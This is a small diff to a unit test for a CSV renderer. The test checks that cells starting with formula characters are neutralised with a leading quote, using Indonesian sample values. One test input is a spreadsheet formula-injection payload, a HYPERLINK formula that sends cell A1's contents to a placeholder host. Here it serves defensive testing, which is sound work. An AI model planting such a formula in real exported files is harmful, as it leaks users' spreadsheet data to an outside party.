@@ -11,7 +11,9 @@ describe('CSV cells', () => {
   });
 
   it('neutralises text a spreadsheet would run as a formula: a leading quote, in a quoted cell; numbers stay numbers', () => {
-    const rows = [['=HYPERLINK("http://x.example/?"&A1,"klik")', -1.5, '-tidak ada', '@SUM(A1)', '+62 812', '\tx', 'Badan Pusat Statistik']];
+    const rows = [
+      ['=HYPERLINK("http://x.example/?"&A1,"klik")', -1.5, '-tidak ada', '@SUM(A1)', '+62 812', '\tx', 'Badan Pusat Statistik'],
+    ];
     const header = ['sumber', 'nilai', 'catatan', 'a', 'b', 'c', 'd'];
     expect(renderCsv(header, rows, csvStyleFrom({})).split('\r\n')[1]).toBe(
       `"'=HYPERLINK(""http://x.example/?""&A1,""klik"")",-1.5,"'-tidak ada","'@SUM(A1)","'+62 812","'\tx",Badan Pusat Statistik`,
